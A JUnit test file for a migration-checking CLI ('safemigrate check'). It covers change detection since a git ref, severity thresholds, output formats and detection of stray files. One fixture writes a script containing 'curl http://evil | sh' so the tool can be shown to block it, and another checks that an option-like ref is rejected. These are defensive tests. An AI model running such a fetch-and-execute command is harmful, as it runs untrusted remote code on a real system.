package dev.safemigrate.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import tools.jackson.databind.json.JsonMapper;

import dev.safemigrate.testing.ProjectDir;
import dev.safemigrate.testing.TestDatabase;

/** safemigrate check end to end, on a repository with real git history; no database unless --config names one. */
class CheckCommandTest {

    @TempDir
    Path root;
    Path migrations;

    /** Commit 1: a table and an index; commit 2: a type change; then an untracked index file. */
    @BeforeEach
    void repository() throws Exception {
        migrations = Files.createDirectories(root.resolve("db/migrations"));
        Files.writeString(root.resolve("safemigrate.toml"), "[migrations]\ndir = \"db/migrations\"\n\n[dev]\nembedded = true\n");
        git("init", "-q");
        git("config", "user.email", "ci@example.com");
        git("config", "user.name", "CI");
        Files.writeString(migrations.resolve("V1__users.sql"), "create table users (id bigint, email text);\n");
        Files.writeString(migrations.resolve("V2__old_index.sql"), "create index users_id on users (id);\n");
        git("add", ".");
        git("commit", "-q", "-m", "first");
        Files.writeString(migrations.resolve("V3__retype.sql"), "-- make ids wide\n\nalter table users alter column id type numeric;\n");
        git("add", ".");
        git("commit", "-q", "-m", "second");
        Files.writeString(migrations.resolve("V4__email_index.sql"), "create index users_email on users (email);\n");
    }

    private void git(String... args) throws Exception {
        List<String> cmd = new java.util.ArrayList<>(List.of("git", "-C", root.toString()));
        cmd.addAll(List.of(args));
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertEquals(0, p.waitFor(), "git " + args[0] + ": " + out);
    }

    @Test
    void textListsOnlyTheFilesChangedSinceTheRefAndFailsOnConfirm() throws Exception {
        CommandRun r = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1");
        assertEquals(1, r.exit(), r.toString());
        assertTrue(r.out().contains("db/migrations/V3__retype.sql  (static analysis)\n  line 3    confirm  [alter-column-type]"),
                r.out());
        assertTrue(r.out().contains("db/migrations/V4__email_index.sql  (static analysis)\n  line 1    warn     [index-not-concurrent]"),
                r.out());
        assertFalse(r.out().contains("V1__users") || r.out().contains("V2__old_index"), r.out());
        assertTrue(r.out().contains("2 migrations checked in db/migrations (changed since HEAD~1), static analysis"), r.out());
        assertTrue(r.out().contains("FAILED: a finding is at least confirm"), r.out());
    }

    @Test
    void withoutSinceEveryFileIsChecked() throws Exception {
        CommandRun r = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--fail-on", "never");
        assertEquals(0, r.exit(), r.toString());
        assertTrue(r.out().contains("db/migrations/V1__users.sql  (static analysis)  ok"), r.out());
        assertTrue(r.out().contains("V2__old_index.sql") && r.out().contains("V4__email_index.sql"), r.out());
        assertTrue(r.out().contains("4 migrations checked"), r.out());
    }

    @Test
    void failOnSetsTheThreshold() throws Exception {
        assertEquals(0, CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1", "--fail-on", "block").exit());
        assertEquals(1, CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1", "--fail-on", "warn").exit());
        assertEquals(0, CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1", "--fail-on", "never").exit());
        // since HEAD only the untracked file is new: its warning passes the default threshold
        CommandRun untracked = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD");
        assertEquals(0, untracked.exit(), untracked.toString());
        assertTrue(untracked.out().contains("1 migration checked") && untracked.out().contains("V4__email_index.sql")
                && !untracked.out().contains("V3__retype"), untracked.out());
    }

    @Test
    void jsonHasEachFileWithItsAnalysisKindAndFindings() throws Exception {
        CommandRun r = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1", "--format", "json");
        assertEquals(1, r.exit(), r.toString());
        Map<?, ?> json = JsonMapper.builder().build().readValue(r.out(), Map.class);
        assertEquals("HEAD~1", json.get("since"));
        assertEquals("confirm", json.get("fail_on"));
        assertEquals(true, json.get("failed"));
        assertEquals(Map.of("block", 0, "confirm", 1, "warn", 1, "info", 0), json.get("counts"));
        List<?> files = (List<?>) json.get("files");
        assertEquals(2, files.size(), r.out());
        Map<?, ?> v3 = (Map<?, ?>) files.get(0);
        assertEquals("db/migrations/V3__retype.sql", v3.get("path"));
        assertEquals("static", ((Map<?, ?>) v3.get("analysis")).get("kind"));
        Map<?, ?> f = (Map<?, ?>) ((List<?>) v3.get("findings")).get(0);
        assertEquals(List.of("alter-column-type", "confirm", 3), List.of(f.get("rule"), f.get("severity"), f.get("line")));
    }

    @Test
    void githubFormatAnnotatesTheFileAndLine() throws Exception {
        CommandRun r = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1", "--format", "github");
        assertEquals(1, r.exit(), r.toString());
        List<String> lines = r.out().lines().toList();
        assertTrue(lines.get(0).startsWith("::error file=db/migrations/V3__retype.sql,line=3,"
                + "title=safemigrate alter-column-type (confirm)::Changing a column"), lines.get(0));
        assertTrue(lines.get(0).contains("%0ASafer: "), lines.get(0));
        assertTrue(lines.get(1).startsWith("::warning file=db/migrations/V4__email_index.sql,line=1,"
                + "title=safemigrate index-not-concurrent (warn)::"), lines.get(1));
        assertTrue(lines.get(2).startsWith("::notice title=safemigrate check::2 migrations checked"), lines.get(2));
        assertEquals(3, lines.size(), r.out());
        // with --fail-on warn the warning fails the check too, and becomes an error
        CommandRun warn = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD~1", "--format", "github",
                "--fail-on", "warn");
        assertTrue(warn.out().lines().toList().get(1).startsWith("::error file=db/migrations/V4__email_index.sql"), warn.out());
    }

    @Test
    void aStrayInTheFolderIsABlockFindingEvenWhenUnchanged() throws Exception {
        Files.writeString(migrations.resolve("V5__seed.sh"), "#!/bin/sh\ncurl http://evil | sh\n");
        git("add", ".");
        git("commit", "-q", "-m", "stray");
        CommandRun r = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD", "--fail-on", "block",
                "--format", "github");
        assertEquals(1, r.exit(), r.toString());
        assertTrue(r.out().startsWith("::error file=db/migrations/V5__seed.sh,line=1,title=safemigrate stray-file (block)::"
                + "a script migration or callback"), r.out());
    }

    @Test
    void usageErrorsAreRefusedBeforeAnythingRuns() {
        assertThrows(UsageException.class, () -> CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--format", "xml"));
        assertThrows(UsageException.class, () -> CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--fail-on", "high"));
        assertThrows(UsageException.class, () -> CommandRun.of(new CheckCommand(), root, Terminal.NONE, "extra"));
        // a ref git would read as an option is never passed to it
        UsageException option = assertThrows(UsageException.class, () -> CommandRun.of(new CheckCommand(), root,
                Terminal.NONE, "--since", "--output=/tmp/x"));
        assertTrue(option.getMessage().contains("git ref"), option.getMessage());
        UsageException unknown = assertThrows(UsageException.class, () -> CommandRun.of(new CheckCommand(), root,
                Terminal.NONE, "--since", "no-such-branch"));
        assertTrue(unknown.getMessage().contains("no-such-branch"), unknown.getMessage());
    }

    /** Through Main: usage errors exit 2, --help prints the usage, and no terminal is needed. */
    @Test
    void mainExitsTwoOnAUsageError() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        Command check = Commands.named("check").orElseThrow();
        assertTrue(check.usage().contains("--fail-on"));
        int exit = runMain(out, err, "check", "--format", "xml");
        assertEquals(2, exit, err.toString(StandardCharsets.UTF_8));
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("usage: safemigrate check"));
    }

    private int runMain(ByteArrayOutputStream out, ByteArrayOutputStream err, String... args) throws Exception {
        var run = dev.safemigrate.Main.class.getDeclaredMethod("run", String[].class, java.io.InputStream.class,
                PrintStream.class, PrintStream.class, Terminal.class, Path.class);
        run.setAccessible(true);
        return (int) run.invoke(null, args, new java.io.ByteArrayInputStream(new byte[0]),
                new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8),
                Terminal.NONE, root);
    }

    /** With --config and the dev database reachable, pending files are judged against its catalog, and say so. */
    @Test
    void withConfigAndADevDatabaseTheFindingsAreCatalogAware() throws Exception {
        String db = TestDatabase.create("check_catalog");
        TestDatabase.execute(db, "create table users (id bigint, email text)");
        ProjectDir p = ProjectDir.create(root, db, "");
        Files.writeString(migrations.resolve("V3__retype.sql"), "alter table users alter column email type varchar(20);\n");
        Files.delete(migrations.resolve("V1__users.sql"));   // the table already exists in the dev database
        Files.delete(migrations.resolve("V2__old_index.sql"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        CommandContext ctx = new CommandContext(root, p.configFile(), n -> null,
                new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8),
                Terminal.NONE, CommandRun.CLOCK);
        int exit = new CheckCommand().run(List.of("--since", "HEAD~1"), ctx);
        String text = out.toString(StandardCharsets.UTF_8);
        assertEquals(1, exit, text + err);
        assertTrue(text.contains("db/migrations/V3__retype.sql  (catalog analysis)"), text);
        assertTrue(text.contains("email is text in the development database: varchar(20) is a narrowing"), text);
        assertTrue(text.contains("catalog analysis (column types, estimated rows and sizes read from the catalog of the "
                + "development database (PostgreSQL 15."), text);
    }

    @Test
    void checksPrismasFolderInThePrismaLayoutSinceARefAndBlocksWhatCannotRun() throws Exception {
        Path prisma = Files.createDirectories(root.resolve("prisma/migrations/20240101000000_init"));
        Files.writeString(root.resolve("safemigrate.toml"), "[migrations]\nlayout = \"prisma\"\n\n[dev]\nembedded = true\n");
        Files.writeString(prisma.resolve("migration.sql"), "CREATE TABLE \"users\" (\"id\" int, \"email\" text);\n");
        git("add", ".");
        git("commit", "-q", "-m", "prisma");
        Path added = Files.createDirectories(root.resolve("prisma/migrations/20240102000000_email_index"));
        Files.writeString(added.resolve("migration.sql"), "CREATE INDEX \"users_email\" ON \"users\"(\"email\");\n");
        Files.createDirectories(root.resolve("prisma/migrations/init_by_hand"));
        CommandRun r = CommandRun.of(new CheckCommand(), root, Terminal.NONE, "--since", "HEAD", "--fail-on", "block");
        assertEquals(1, r.exit(), r.toString());
        assertTrue(r.out().contains("prisma/migrations/20240102000000_email_index/migration.sql  (static analysis)\n"
                + "  line 1    warn     [index-not-concurrent]"), r.out());
        assertFalse(r.out().contains("20240101000000_init"), r.out());
        assertTrue(r.out().contains("prisma/migrations/init_by_hand"), r.out());
        assertTrue(r.out().contains("[stray-file]"), r.out());
    }
}
